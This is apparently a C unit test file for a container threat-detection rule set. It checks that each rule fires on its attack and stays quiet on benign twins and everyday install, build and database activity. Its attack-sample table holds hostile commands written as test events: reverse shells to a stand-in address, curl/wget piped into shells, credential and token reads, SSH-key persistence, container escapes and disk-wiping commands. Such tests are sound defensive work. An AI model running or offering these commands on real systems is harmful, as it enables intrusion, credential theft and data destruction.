/* SPDX-License-Identifier: Apache-2.0 */
/* Our own rule set: every rule sees its attack, none sees the benign twin or everyday work. */
#include "detect/detect.h"

#include "tests/sk_test.h" /* cmocka and the headers it wants first */
#include "tests/unit/detect/files.h"
#include "tests/unit/detect/rule_pairs.h"

struct seen {
    const struct sk_rules *rules;
    const char *want; /* id looked for */
    bool found;
    char loud[128]; /* a rule of warning or worse */
    size_t n;
};

static const struct sk_rule *rule_by_name(const struct sk_rules *r, struct sk_str name)
{
    size_t i;

    for (i = 0; i < sk_rules_count(r); i++)
        if (sk_str_eq(sk_rules_at(r, i)->name, name))
            return sk_rules_at(r, i);
    return NULL;
}

static void take(void *arg, const struct sk_alert *a)
{
    struct seen *s = arg;
    const struct sk_rule *rule = rule_by_name(s->rules, a->rule);

    assert_non_null(rule);
    s->n++;
    if (s->want && sk_str_eq(rule->id, sk_str_c(s->want)))
        s->found = true;
    if (a->priority <= SK_PRIO_WARNING)
        (void)sk_str_copy(s->loud, sizeof(s->loud), a->rule);
}

static struct sk_detect *own_rules(void)
{
    struct sk_detect *d = NULL;
    struct sk_rules *r = NULL;
    struct sk_err err = {0};
    struct files f = {0};

    assert_true(files_read(&f, SK_RULES_DIR));
    if (sk_rules_load(f.v, f.n, &r, &err) < 0)
        fail_msg("%s", err.msg);
    files_done(&f);
    assert_int_equal(sk_detect_new(&d), 0);
    assert_int_equal(sk_detect_use(d, r), 0);
    return d;
}

static struct seen give(struct sk_detect *d, const struct ev *e, const char *want)
{
    struct seen s = {.rules = sk_detect_rules(d), .want = want};
    struct made m;

    ev_make(&m, e);
    (void)sk_detect_event(d, &m.ev, take, &s);
    return s;
}

static const struct pair *pair_of(struct sk_str id)
{
    size_t i;

    for (i = 0; i < SK_ARRAY_LEN(pairs); i++)
        if (sk_str_eq(sk_str_c(pairs[i].id), id))
            return &pairs[i];
    return NULL;
}

static void every_rule_is_complete(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    const struct sk_rules *r = sk_detect_rules(d);
    size_t i, k;

    (void)state;
    assert_int_equal(sk_rules_warnings(r), 0);
    assert_true(sk_rules_count(r) >= 60);
    for (i = 0; i < sk_rules_count(r); i++) {
        const struct sk_rule *rule = sk_rules_at(r, i);
        bool tactic = false;

        for (k = 0; k < rule->tags.n; k++)
            tactic = tactic || sk_str_starts(rule->tags.v[k], SK_STR("mitre_"));
        if (!rule->evaluated || !rule->title_zh.n || !rule->desc_zh.n || !rule->advice.n ||
            !rule->advice_zh.n || !rule->techniques.n || !tactic ||
            !sk_str_starts(rule->id, SK_STR("SK-")) ||
            (sk_str_eq(rule->source, SK_STR("syscall")) && !pair_of(rule->id)))
            fail_msg("rule \"%s\" is not complete", rule->name.p);
        for (k = 0; k < i; k++)
            if (sk_str_eq(sk_rules_at(r, k)->id, rule->id))
                fail_msg("id %s is used twice", rule->id.p);
    }
}

static void every_rule_sees_its_attack(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    size_t i, missed = 0;

    (void)state;
    for (i = 0; i < SK_ARRAY_LEN(pairs); i++)
        if (!give(d, &pairs[i].bad, pairs[i].id).found) {
            print_error("%s did not see its attack\n", pairs[i].id);
            missed++;
        }
    assert_int_equal(missed, 0);
}

static void no_rule_sees_a_benign_twin(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    size_t i, wrong = 0;

    (void)state;
    for (i = 0; i < SK_ARRAY_LEN(pairs); i++) {
        struct seen s = give(d, &pairs[i].good, pairs[i].id);

        if (s.found || s.loud[0]) {
            print_error("%s: its benign twin raised %s\n", pairs[i].id, s.found ? "it" : s.loud);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static void nothing_is_said_of_attacks_on_the_host(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    size_t i;

    (void)state;
    for (i = 0; i < SK_ARRAY_LEN(pairs); i++) {
        struct ev e = pairs[i].bad;

        e.host = true;
        if (give(d, &e, NULL).n)
            fail_msg("%s is about containers, but speaks of the host", pairs[i].id);
    }
}

/* What an installation, a build, a database and a web server do all day. */
static const struct ev everyday[] = {
    EX("apt-get", "install -y nginx"),
    EX("dpkg", "--unpack /var/cache/apt/archives/nginx.deb", .parent = "apt-get"),
    EX("sh", "-c dpkg --configure -a", .parent = "apt-get"),
    EX("nginx.postinst", "configure", .parent = "dpkg", .upper = true,
       .exepath = "/var/lib/dpkg/info/nginx.postinst"),
    EX("useradd", "--system nginx", .parent = "adduser", .grandparent = "dpkg"),
    EX("ldconfig", "", .parent = "dpkg"),
    EX("gpgv", "--keyring /etc/apt/trusted.gpg", .parent = "apt-key"),
    RD("/etc/shadow", .name = "useradd", .parent = "adduser", .grandparent = "dpkg"),
    WR("/etc/shadow", .name = "useradd", .parent = "adduser", .grandparent = "dpkg"),
    WR("/usr/sbin/nginx.dpkg-new", .name = "dpkg", .parent = "apt-get"),
    WR("/etc/cron.daily/nginx.dpkg-new", .name = "dpkg", .parent = "apt-get"),
    WR("/etc/init.d/nginx.dpkg-new", .name = "dpkg", .parent = "apt-get"),
    {.type = SK_E_RENAME,
     .name = "dpkg",
     .parent = "apt-get",
     .oldpath = "/usr/sbin/nginx.dpkg-new",
     .newpath = "/usr/sbin/nginx"},
    {.type = SK_E_FCHMODAT,
     .name = "dpkg",
     .parent = "apt-get",
     .path = "/usr/bin/su",
     .mode = 04755},
    {.type = SK_E_SYMLINKAT,
     .name = "update-alternat",
     .parent = "dpkg",
     .oldpath = "/usr/bin/vim.basic",
     .newpath = "/usr/bin/vi"},
    CONN("151.101.2.132:80", .name = "http", .parent = "apt-get"),
    EX("apk", "add --no-cache curl"),
    EX("busybox", "--install -s", .parent = "apk"),
    EX("gcc", "-O2 -c a.c", .parent = "make"),
    EX("cc1", "a.c", .parent = "gcc", .grandparent = "make"),
    EX("a.out", "", .parent = "make", .upper = true, .exepath = "/src/a.out"),
    EX("a.out", "", .parent = "sh", .grandparent = "make", .upper = true, .exepath = "/tmp/a.out"),
    EX("a.out", "", .parent = "sh", .upper = true, .exepath = "/tmp/a.out"),
    EX("conftest", "", .parent = "configure", .upper = true, .exepath = "/src/conftest"),
    WR("/usr/local/bin/tool", .name = "install", .parent = "make"),
    EX("npm", "ci"),
    EX("node", "install.js", .parent = "sh", .grandparent = "npm"),
    EX("esbuild", "--version", .parent = "node", .grandparent = "npm", .upper = true),
    EX("git", "clone https://code/x.git"),
    EX("go", "build ./..."),
    EX("initdb", "-D /var/lib/postgresql/data", .parent = "docker-entrypoi"),
    EX("sh", "-c postgres -V", .parent = "initdb"),
    EX("postgres", "--boot", .parent = "sh", .grandparent = "initdb"),
    EX("gosu", "postgres postgres", .vpid = 1),
    WR("/var/lib/postgresql/data/pg_wal/000000010000000000000001", .name = "postgres"),
    EX("mysqld", "--initialize-insecure", .parent = "docker-entrypoi"),
    {.type = SK_E_CONNECT, .name = "mysql", .unix_socket = "/run/mysqld/mysqld.sock"},
    EX("redis-server", "*:6379", .vpid = 1),
    EX("nginx", "-g daemon off;", .vpid = 1),
    EX("sh", "/docker-entrypoint.sh nginx", .vpid = 1),
    WR("/etc/nginx/conf.d/default.conf", .name = "sh", .vpid = 12, .pvpid = 1),
    RD("/etc/passwd", .name = "nginx"),
    RD("/etc/ssl/certs/ca-certificates.crt", .name = "curl"),
    CONN("10.0.0.8:5432", .name = "java"),
    CONN("10.0.0.53:53", .name = "app", .udp = true),
    EX("sh", "-c curl -f http://localhost:8080/health || exit 1", .parent = "runc"),
    EX("bash", "-c exec 3<>/dev/tcp/127.0.0.1/9092", .parent = "runc"),
    CONN("127.0.0.1:9092", .name = "bash", .args = "-c exec 3<>/dev/tcp/127.0.0.1/9092"),
    {.type = SK_E_DUP2, .name = "httpd", .peer = "10.0.0.9:40000", .server = true, .res = 0},
    EX("python3.11", "-E -S /usr/lib/python3.11/py_compile.py /usr/lib/python3.11/socket.py "
                     "/usr/lib/python3.11/subprocess.py"),
    EX("sh", "-c locale -a", .parent = "postgres"),
    RD("/etc/shadow", .name = "pg_ctlcluster", .exepath = "/usr/bin/perl"), /* getpwnam */
    EX("logrotate", "/etc/logrotate.conf", .parent = "cron"),
    EX("rm", "-rf /var/lib/apt/lists/auxfiles /tmp/x"),
    EX("rm", "-r /var/tmp/build/"),
    {.type = SK_E_UNLINKAT, .name = "rm", .path = "/tmp/npm-1/package.json"},
    {.type = SK_E_DUP2, .name = "nginx", .file = "/var/log/nginx/error.log", .res = 2},
    {.type = SK_E_SETUID, .name = "nginx", .arg0 = 101},
    {.type = SK_E_CAPSET, .name = "runc:[2:INIT]", .parent = "runc"},
    {.type = SK_E_SETNS, .name = "runc:[1:CHILD]", .parent = "runc"},
    {.type = SK_E_MOUNT, .name = "runc:[2:INIT]", .path = "/proc", .parent = "runc"},
    {.type = SK_E_PIVOT_ROOT, .name = "runc:[2:INIT]", .parent = "runc"},
    {.type = SK_E_MEMFD_CREATE, .name = "node", .label = "v8", .res = 20},
    {.type = SK_E_PTRACE, .name = "strace", .arg0 = 16902},
    {.type = SK_E_UNSHARE, .name = "apt-get", .flags = CLONE_NEWNS, .res = -1},
};

static void everyday_work_raises_no_warning(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    size_t i, wrong = 0;

    (void)state;
    for (i = 0; i < SK_ARRAY_LEN(everyday); i++) {
        struct seen s = give(d, &everyday[i], NULL);

        if (s.loud[0]) {
            print_error("event %zu (%s %s) raised \"%s\"\n", i, everyday[i].name,
                        everyday[i].args ? everyday[i].args : "", s.loud);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}

static const struct {
    const char *id;
    struct ev e;
} more[] = {
    /* further forms of attacks, beside the first of each rule */
    {"SK-CRD-001", {.type = SK_E_OPEN, .read = true, .name = "python3", .file = "/etc/shadow"}},
    {"SK-CRD-006", CONN("100.100.100.200:80", .name = "wget")},
    {"SK-EXE-001", {.type = SK_E_DUP3, .name = "perl", .peer = "2001:db8::7:443", .res = 2}},
    {"SK-EXE-001", {.type = SK_E_DUP, .name = "x", .peer = "203.0.113.7:443", .res = 1}},
    {"SK-EXE-001",
     {.type = SK_E_DUP2, .name = "nc", .peer = "203.0.113.7:9", .server = true, .res = 0}},
    {"SK-EXE-004", EX("exe", "203.0.113.7 4444 -e /bin/sh", .exe = "/bin/nc")},
    {"SK-CRD-004",
     RD("/run/secrets/kubernetes.io/serviceaccount/token", .name = "exe", .exe = "cat")},
    {"SK-PER-003", WR("/root/.ssh/authorized_keys", .name = "sh", .pvpid = 1, .parent = "node",
                      .at = 60)}, /* the service was taken over long after its start */
    {"SK-PER-006", WR("/etc/passwd", .name = "sh", .args = "-c echo x >> /etc/passwd", .vpid = 1)},
    {"SK-PER-007", EX("useradd", "x", .pvpid = 1, .pargs = "-c useradd x; sleep 9")},
    {"SK-EXE-002", CONN("203.0.113.7:9001", .name = "bash",
                        .args = "-c bash -i >& /dev/tcp/203.0.113.7/9001 0>&1")},
    {"SK-EXE-003",
     EX("perl", "-e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");")},
    {"SK-EXE-003", EX("php", "-r $s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3\");")},
    {"SK-EXE-003", EX("ruby", "-rsocket -e exit if fork;c=TCPSocket.new(\"203.0.113.7\",1);"
                              "IO.popen(\"/bin/sh -i\")")},
    {"SK-EXE-003", EX("gawk", "BEGIN{s=\"/inet/tcp/0/203.0.113.7/1\";while(1){s|&getline c}}")},
    {"SK-EXE-004", EX("nc", "-lvpe 4444 /bin/bash")},
    {"SK-EXE-004", EX("socat", "TCP:203.0.113.7:4444 EXEC:/bin/sh,pty")},
    {"SK-EXE-009", EX("m", "", .parent = "java", .upper = true, .exepath = "/tmp/m")},
    {"SK-EXE-011", EX("curl", "http://203.0.113.7/x", .parent = "java")},
    {"SK-EXE-014", EX("bash", "-c wget -qO- http://203.0.113.7/i.py | python3 -")},
    {"SK-EXE-014", EX("bash", "-c bash <(curl -s http://203.0.113.7/i.sh)")},
    {"SK-ESC-002", WR("/sys/kernel/uevent_helper", .name = "sh")},
    {"SK-ESC-003", {.type = SK_E_CONNECT, .name = "x", .unix_socket = "/var/run/docker.sock"}},
    {"SK-ESC-005", EX("nsenter", "--target 1 --mount sh")},
    {"SK-ESC-008", {.type = SK_E_PROCESS_VM_WRITEV, .name = "inject", .target = 812, .res = 64}},
    {"SK-ESC-012", {.type = SK_E_BPF, .name = "x", .res = -1}},
    {"SK-PER-002", {.type = SK_E_RENAME, .name = "mv", .newpath = "/etc/ld.so.preload"}},
    {"SK-PER-009", {.type = SK_E_RENAME, .name = "mv", .newpath = "/usr/sbin/sshd"}},
    {"SK-EVA-001", WR("/var/log/auth.log", .name = "sh", .flags = O_WRONLY | O_TRUNC)},
    {"SK-EVA-002", {.type = SK_E_SYMLINKAT, .name = "ln", .newpath = "/root/.bash_history"}},
    {"SK-EVA-002", EX("bash", "-c export HISTSIZE=0")},
    {"SK-EVA-005", EX("iptables", "-F")},
    {"SK-EVA-007", EX("rm", "-rf /*")},
    {"SK-EVA-007", EX("rm", "-rf /")},
    {"SK-EVA-007", EX("dd", "if=/dev/zero of=/dev/sda bs=1M")},
    {"SK-IMP-001", EX("xmrig", "")},
};

static void other_forms_of_an_attack_are_seen_too(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    size_t i, missed = 0;

    (void)state;
    for (i = 0; i < SK_ARRAY_LEN(more); i++)
        if (!give(d, &more[i].e, more[i].id).found) {
            print_error("%s missed %s %s\n", more[i].id, more[i].e.name,
                        more[i].e.args ? more[i].e.args : "");
            missed++;
        }
    assert_int_equal(missed, 0);
}

static void a_pending_event_without_process_accuses_nobody(void **state)
{
    SK_CLEANUP(sk_detect_freep) struct sk_detect *d = own_rules();
    struct seen s = {.rules = sk_detect_rules(d)};
    struct made m;

    (void)state;
    ev_make(&m, &pairs[0].bad);
    m.ev.proc = NULL;
    m.ev.container = NULL;
    (void)sk_detect_event(d, &m.ev, take, &s);
    assert_int_equal(s.n, 0);
}

SK_TEST_MAIN(every_rule_is_complete, every_rule_sees_its_attack, no_rule_sees_a_benign_twin,
             nothing_is_said_of_attacks_on_the_host, everyday_work_raises_no_warning,
             other_forms_of_an_attack_are_seen_too, a_pending_event_without_process_accuses_nobody)
